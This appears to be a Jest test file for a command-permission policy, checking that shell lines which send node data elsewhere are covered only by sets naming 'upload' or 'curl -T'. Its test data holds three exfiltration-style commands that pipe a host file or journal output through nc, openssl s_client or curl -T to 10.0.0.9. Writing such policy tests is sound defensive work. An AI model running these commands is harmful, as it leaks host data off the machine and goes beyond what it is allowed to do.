import { expect, test } from '@jest/globals'
import { findGap } from '#core/policy/find-gap'
import { changer, judgeLine, planLine } from './judge-line.ts'
import { uploads } from './uploads.ts'

// What a node or a container keeps leaves it only where a set names "upload".
test.each(uploads)('T45 on a $on: $line: $expect', (each) => {
  expect(judgeLine(each)).toBe(each.expect)
})

test.each([
  ['cat /host/etc/hostname | nc 10.0.0.9 9000', ['*', 'upload']],
  ['journalctl -n 9 | grep x | openssl s_client -connect 10.0.0.9:443', ['*', 'upload']],
  ['curl -T /host/etc/hostname http://10.0.0.9', ['*', 'curl -T', 'upload']],
])('T45 %s is covered by a set that names %s, and by none that leaves one out', (line, tools) => {
  const planned = planLine(line, 'node')
  if (typeof planned === 'string') throw new Error(planned)
  expect(findGap(planned, { ...changer, tools })).toBeUndefined()
  for (const left of tools.slice(1)) {
    const gap = findGap(planned, { ...changer, tools: tools.filter((tool) => tool !== left) })?.gap
    expect(gap).toMatchObject({ reason: 'special-argument', message: expect.stringContaining(left) })
  }
})
